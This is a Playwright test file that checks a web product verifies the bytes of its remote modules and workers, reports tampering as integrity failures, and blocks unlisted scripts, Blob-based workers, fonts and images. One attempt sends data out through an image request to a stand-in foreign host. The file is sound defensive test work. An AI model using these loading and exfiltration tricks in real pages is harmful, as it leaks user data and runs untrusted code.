import type { Page } from '@playwright/test';
import { listenToLoads } from '../testing/failures/load-events';
import { breakFiles } from '../testing/failures/outage';
import { registerUser } from '../testing/people';
import { getFilePattern } from '../testing/releases/registry';
import { expect, test } from '../testing/test';
import { getDist, getFixtureFolder } from '../testing/workspace';

// This file publishes a remote with workers and pictures in its own installation.
test.use({ installation: 'bytes' });
test.beforeAll(({ product }) => product.publish(getDist(getFixtureFolder('recursos'))));

const getHeading = (page: Page) => page.getByRole('heading', { name: 'Recursos', level: 1 });
const getFaultNotice = (page: Page) => page.getByRole('alert', { name: 'Recursos no se ha podido cargar' });
const sum = (page: Page) => page.getByRole('button', { name: 'Sumar', exact: true }).click();
const sumShared = (page: Page) => page.getByRole('button', { name: 'Sumar en común' }).click();

test('a remote starts its workers from verified bytes, also after they changed, and paints its pictures', async ({
  page,
  product,
  open,
}) => {
  await open(await registerUser(product), '/recursos');
  await expect(getHeading(page)).toBeVisible();
  await breakFiles(
    page,
    await getFilePattern(product, 'recursos', 'worker'),
    'tampered',
    () => 'postMessage(666)',
  );
  await sum(page);
  await expect(page.getByText('Sumas: 6')).toBeVisible();
  await sumShared(page);
  await expect(page.getByText('Sumas: 6, 15')).toBeVisible();
  const dot = page.getByRole('img', { name: 'Punto' });
  await expect(dot).toHaveJSProperty('naturalWidth', 12);
  await expect(dot).toHaveAttribute('src', /^data:image/);
});

test('a worker with one changed byte does not run, is reported as integrity, and works again without a reload', async ({
  page,
  product,
  open,
  consoleWatch,
}) => {
  consoleWatch.provoke(/\/remotes\/recursos|integrity/);
  const reportedLoads = await listenToLoads(page);
  const mend = await breakFiles(
    page,
    await getFilePattern(product, 'recursos', 'worker'),
    'tampered',
    () => "addEventListener('message', () => postMessage(666))",
  );
  await open(await registerUser(product), '/recursos');
  await expect(getFaultNotice(page)).toBeVisible();
  await expect
    .poll(async () => (await reportedLoads()).filter(({ outcome }) => outcome === 'failed'))
    .toEqual([expect.objectContaining({ remote: 'recursos', phase: 'chunk', reason: 'integrity' })]);
  await mend();
  await page.getByRole('button', { name: 'Reintentar' }).click();
  await sum(page);
  await expect(page.getByText('Sumas: 6')).toBeVisible();
});

test('a changed file that a running remote loads later is reported as integrity', async ({
  page,
  product,
  open,
  consoleWatch,
}) => {
  consoleWatch.provoke(/\/remotes\/recursos|integrity|ChunkLoadError|Loading chunk/);
  // The error of the chunk as React logs it in Firefox, from which WebDriver BiDi gets no message.
  consoleWatch.provoke(/^Error \(\S+\/shell\/react\./);
  await open(await registerUser(product), '/recursos');
  await expect(getHeading(page)).toBeVisible();
  const mend = await breakFiles(page, await getFilePattern(product, 'recursos', 'script'), 'tampered');
  await page.getByRole('link', { name: 'Más tarde' }).click();
  await expect(getFaultNotice(page)).toContainText('recursos 1.0.0 · chunk: integrity');
  await mend();
  await page.getByRole('button', { name: 'Reintentar' }).click();
  await expect(page.getByText('Ha llegado más tarde.')).toBeVisible();
});

interface Attempt {
  readonly what: string;
  /** Runs in the page; returns or rejects with how the browser answered. */
  readonly attempt: (entry: string) => Promise<string>;
  readonly answer: RegExp;
}

/** Attempts of a remote to load an address that no release lists, and whose bytes a compromised server chooses. */
const attempts: readonly Attempt[] = [
  {
    what: 'a script that no release lists',
    attempt: async () => (document.createElement('script').src = '/remotes/catalogue/9.9.9/ajeno.js'),
    answer: /TypeError.*in no verified release/,
  },
  {
    what: 'a worker whose file no release lists',
    attempt: async () => new Worker('/pictures/dashpro.svg').constructor.name,
    answer: /TypeError.*in no verified release/,
  },
  {
    what: 'a worker from a script of a release that is no worker',
    attempt: async (entry) => new Worker(entry).constructor.name,
    answer: /TypeError.*in no verified release/,
  },
  {
    what: 'a worker from text',
    attempt: async () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).constructor.name,
    answer: /TypeError.*in no verified release/,
  },
  {
    what: 'a module of an audio worklet',
    attempt: async (entry) => new AudioContext().audioWorklet.addModule(entry).then(() => 'runs'),
    answer: /TypeError/,
  },
  {
    what: 'a picture by its address in a release',
    attempt: (entry) =>
      new Promise((resolve) => {
        const picture = new Image();
        picture.onload = () => resolve('painted');
        picture.onerror = () => resolve('blocked');
        picture.src = entry.replace(/[^/]+$/, 'dot.svg');
      }),
    answer: /blocked/,
  },
  {
    what: 'a picture of another origin, with data in its address',
    attempt: (entry) =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
          if (blockedURI.startsWith('https://ajena.example')) resolve(`blocked by ${effectiveDirective}`);
        });
        new Image().src = `https://ajena.example/?dato=${entry}`;
      }),
    answer: /blocked by img-src/,
  },
  {
    what: 'a font by its address in a release',
    attempt: (entry) => new FontFace('otra', `url(${entry})`).load().then(() => 'loaded'),
    answer: /Error/,
  },
];

test('the browser refuses code, pictures and fonts that are no part of a verified release', async ({
  page,
  product,
  open,
  consoleWatch,
}) => {
  consoleWatch.provoke(/Content Security Policy|verified release|ajena|dot\.svg/i);
  await page.route('**/dot.svg', (route) =>
    route.fulfill({
      contentType: 'image/svg+xml',
      body: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
    }),
  );
  await open(await registerUser(product), '/recursos');
  await expect(getHeading(page)).toBeVisible();
  const entry = await page.evaluate(
    () =>
      performance.getEntriesByType('resource').find(({ name }) => /recursos.*entry/.test(name))?.name ?? '',
  );
  expect(entry).not.toBe('');
  for (const { what, attempt, answer } of attempts)
    expect.soft(await page.evaluate(attempt, entry).catch(String), what).toMatch(answer);
});
